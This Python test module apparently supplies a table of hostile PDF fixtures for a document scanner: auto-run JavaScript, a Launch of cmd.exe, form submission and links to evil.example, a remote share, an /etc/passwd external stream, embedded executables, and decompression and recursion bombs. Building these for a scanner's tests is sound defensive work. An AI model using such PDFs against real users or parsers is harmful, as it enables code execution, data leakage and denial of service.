"""Hostile PDFs as a table: those that act, exhaust, hide or break."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream

from tests.core.documents import made
from tests.core.documents.made import HARMLESS, MEGABYTE, Hostile


def attached(document: Pdf) -> None:
    document.attachments["invoice.exe"] = b"MZ" + b"\0" * 64


def catalog(**entries: object) -> made.Change:
    def change(document: Pdf) -> None:
        for key, value in entries.items():
            document.Root["/" + key] = value

    return change


def page_entry(key: str, value: object) -> made.Change:
    def change(document: Pdf) -> None:
        document.pages[0].obj["/" + key] = value

    return change


def named_script(document: Pdf) -> None:
    tree = Dictionary(Names=Array(["run", document.make_indirect(made.javascript())]))
    document.Root.Names = Dictionary(JavaScript=tree)


def scripted_form(document: Pdf) -> None:
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T="sum",
        Rect=[0, 0, 9, 9],
        AA=Dictionary(C=made.javascript()),
    )
    fields = Array([document.make_indirect(field)])
    document.pages[0].obj.Annots = fields
    document.Root.AcroForm = Dictionary(Fields=fields, CO=fields)


def xfa(**catalog_entries: object) -> made.Change:
    def change(document: Pdf) -> None:
        packet = Stream(
            document, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>1</script></xdp:xdp>"
        )
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=packet)
        catalog(**catalog_entries)(document)

    return change


def outlined_script(document: Pdf) -> None:
    item = document.make_indirect(Dictionary(Title="Open me", A=made.javascript()))
    document.Root.Outlines = Dictionary(First=item, Last=item, Count=1)


def action_in_resources(document: Pdf) -> None:
    document.pages[0].obj.Resources.Properties = Dictionary(P=Dictionary(Type=Name.OCG, A=made.javascript()))


def file_in_xobject(document: Pdf) -> None:
    form = Stream(document, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    payload = document.make_indirect(Stream(document, b"MZ payload"))
    form.AF = Array([Dictionary(Type=Name.Filespec, F="x.exe", EF=Dictionary(F=payload))])
    document.pages[0].obj.Resources.XObject = Dictionary(X=form)


def postscript_xobject(document: Pdf) -> None:
    program = Stream(document, b"systemdict /quit get exec", Type=Name.XObject, Subtype=Name.PS)
    document.pages[0].obj.Resources.XObject = Dictionary(X=program)


def external_stream(document: Pdf) -> None:
    document.pages[0].obj.Resources.XObject = Dictionary(
        X=Stream(document, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], F="/etc/passwd")
    )


def script_in_metadata(document: Pdf) -> None:
    document.Root.Metadata = Stream(document, b"<x:xmpmeta><script>alert(1)</script></x:xmpmeta>")


def flate_layers(data: bytes, layers: int) -> made.Change:
    def change(document: Pdf) -> None:
        packed = data
        for _ in range(layers):
            packed = zlib.compress(packed, 1)
        bomb = Stream(document, packed)
        bomb.Filter = Array([Name.FlateDecode] * layers)
        document.pages[0].obj.Contents = bomb

    return change


def flate_bomb(layers: int) -> bytes:
    return made.pdf(flate_layers(bytes(257 * MEGABYTE), layers))


def lzw_bomb() -> bytes:
    """A clear code, then ever longer runs of the same byte: about a megabyte that unpacks to gigabytes."""
    bits, code, width = ["100000000", "000000000"], 258, 9
    while len(bits) < 250_000:
        if code == 4095:
            bits.append(format(256, f"0{width}b"))
            bits.append(format(0, "09b"))
            code, width = 258, 9
            continue
        bits.append(format(code, f"0{width}b"))
        code += 1
        width = 9 if code < 511 else 10 if code < 1023 else 11 if code < 2047 else 12
    joined = "".join(bits)
    packed = int(joined.ljust(-(-len(joined) // 8) * 8, "0"), 2).to_bytes(-(-len(joined) // 8), "big")

    def change(document: Pdf) -> None:
        bomb = Stream(document, packed)
        bomb.Filter = Name.LZWDecode
        document.pages[0].obj.Contents = bomb

    return made.pdf(change)


def many_small_bombs(document: Pdf) -> None:
    packed = zlib.compress(bytes(20 * MEGABYTE), 1)
    for number in range(20):
        stream = Stream(
            document, packed + bytes([number]), Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9]
        )
        stream.Filter = Name.FlateDecode
        document.pages[0].obj.Resources[f"/X{number}"] = document.make_indirect(stream)


def image_flood(document: Pdf) -> None:
    flood = Stream(document, zlib.compress(b""), Type=Name.XObject, Subtype=Name.Image, BitsPerComponent=8)
    flood.update(
        Dictionary(Width=100_000, Height=100_000, ColorSpace=Name.DeviceRGB, Filter=Name.FlateDecode)
    )
    document.pages[0].obj.Resources.XObject = Dictionary(X=flood)


def billion_laughs(document: Pdf) -> None:
    """Drawings that draw drawings: ten times each, twelve deep."""
    inner = Stream(document, b"0 0 1 1 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 600, 800])
    for _ in range(12):
        outer = Stream(document, b"/X Do " * 10, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 600, 800])
        outer.Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(inner)))
        inner = outer
    document.pages[0].obj.Resources.XObject = Dictionary(X=document.make_indirect(inner))
    document.pages[0].obj.Contents = Stream(document, b"/X Do")


def endless_form(document: Pdf) -> None:
    form = document.make_indirect(
        Stream(document, b"/X Do /X Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 600, 800])
    )
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    document.pages[0].obj.Resources.XObject = Dictionary(X=form)
    document.pages[0].obj.Contents = Stream(document, b"/X Do")


def huge_page(document: Pdf) -> None:
    document.pages[0].obj.MediaBox = Array([0, 0, 1, 14_400_000])


def encrypted(user: str) -> bytes:
    with pikepdf.open(io.BytesIO(made.pdf())) as document:
        return made.saved(document, encryption=pikepdf.Encryption(user=user, owner="owner"))


def without_cross_references() -> bytes:
    return made.pdf().rpartition(b"startxref")[0] + b"startxref\n999999\n%%EOF"


def without_pages() -> bytes:
    with Pdf.new() as document:
        return made.saved(document)


def looping_page_tree() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def nested_arrays() -> bytes:
    deep = b"[" * 200_000 + b"]" * 200_000
    return made.pdf().replace(b"/Type /Catalog", b"/Lang " + deep + b" /Type /Catalog", 1)


def shown_pdf(*changes: made.Change) -> Callable[[], bytes]:
    return lambda: made.pdf(*changes)


def link(uri: str) -> made.Change:
    return made.annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=uri))


def acting(**action: object) -> made.Change:
    return catalog(OpenAction=Dictionary(Type=Name.Action, **action))


PDFS = [
    # PDFs that act
    Hostile("script when opened", "a.pdf", shown_pdf(catalog(OpenAction=made.javascript())), HARMLESS),
    Hostile("script by name", "a.pdf", shown_pdf(named_script), HARMLESS),
    Hostile("script when closed", "a.pdf", shown_pdf(catalog(AA=Dictionary(WC=made.javascript()))), HARMLESS),
    Hostile(
        "script of a page", "a.pdf", shown_pdf(page_entry("AA", Dictionary(O=made.javascript()))), HARMLESS
    ),
    Hostile("script of a form field", "a.pdf", shown_pdf(scripted_form), HARMLESS),
    Hostile("script of a bookmark", "a.pdf", shown_pdf(outlined_script), HARMLESS),
    Hostile(
        "script of a link",
        "a.pdf",
        shown_pdf(made.annotated(Subtype=Name.Link, A=made.javascript())),
        HARMLESS,
    ),
    Hostile("script among the resources", "a.pdf", shown_pdf(action_in_resources), HARMLESS),
    Hostile("script in metadata", "a.pdf", shown_pdf(script_in_metadata), HARMLESS),
    Hostile("program started", "a.pdf", shown_pdf(acting(S=Name.Launch, F="cmd.exe")), HARMLESS),
    Hostile("link to a site", "a.pdf", shown_pdf(link("https://evil.example/")), HARMLESS),
    Hostile("link to a script", "a.pdf", shown_pdf(link("java" + "script:alert(1)")), HARMLESS),
    Hostile(
        "form sent away", "a.pdf", shown_pdf(acting(S=Name.SubmitForm, F="https://evil.example/")), HARMLESS
    ),
    Hostile(
        "other file opened", "a.pdf", shown_pdf(acting(S=Name.GoToR, F="\\\\evil\\share", D=[0])), HARMLESS
    ),
    Hostile("attachment", "a.pdf", shown_pdf(attached), HARMLESS),
    Hostile("attachment of a drawing", "a.pdf", shown_pdf(file_in_xobject), HARMLESS),
    Hostile("portfolio", "a.pdf", shown_pdf(attached, catalog(Collection=Dictionary())), ("portfolio",)),
    Hostile(
        "rich media",
        "a.pdf",
        shown_pdf(made.annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
        HARMLESS,
    ),
    Hostile("XFA beside a form", "a.pdf", shown_pdf(xfa()), HARMLESS),
    Hostile("XFA instead of pages", "a.pdf", shown_pdf(xfa(NeedsRendering=True)), ("dynamic_form",)),
    Hostile("PostScript drawing", "a.pdf", shown_pdf(postscript_xobject), HARMLESS),
    Hostile("drawing in another file", "a.pdf", shown_pdf(external_stream), HARMLESS),
    # PDFs that exhaust
    Hostile("decompression bomb", "a.pdf", lambda: flate_bomb(1), ("unpacks_too_large",)),
    Hostile("two-layer decompression bomb", "a.pdf", lambda: flate_bomb(2), ("unpacks_too_large",)),
    Hostile("LZW bomb", "a.pdf", lzw_bomb, ("unpacks_too_large", "unreadable")),
    Hostile("many small bombs", "a.pdf", shown_pdf(many_small_bombs), ("unpacks_too_large",)),
    Hostile("picture flood in a PDF", "a.pdf", shown_pdf(image_flood), ("too_many_pixels",)),
    Hostile("billion laughs", "a.pdf", shown_pdf(billion_laughs), ("unreadable",)),
    Hostile("drawing that draws itself", "a.pdf", shown_pdf(endless_form), ("unreadable",)),
    Hostile("page of five kilometres", "a.pdf", shown_pdf(huge_page), HARMLESS),
    Hostile("nested arrays", "a.pdf", nested_arrays, ("broken_pdf", "unreadable")),
    Hostile("page tree in a loop", "a.pdf", looping_page_tree, ("broken_pdf", "no_pages", "unreadable")),
    Hostile("too many pages", "a.pdf", lambda: made.pdf(pages=2001), ("too_many_pages",)),
    # broken and locked PDFs
    Hostile("locked PDF", "a.pdf", lambda: encrypted("secret"), ("locked",)),
    Hostile("PDF with an owner's password only", "a.pdf", lambda: encrypted(""), HARMLESS),
    Hostile("PDF cut short", "a.pdf", lambda: made.pdf(pages=3)[:600], HARMLESS),
    Hostile("PDF header only", "a.pdf", lambda: b"%PDF-1.7\n", ("broken_pdf",)),
    Hostile("PDF without cross references", "a.pdf", without_cross_references, HARMLESS),
    Hostile("PDF without pages", "a.pdf", without_pages, ("no_pages",)),
]
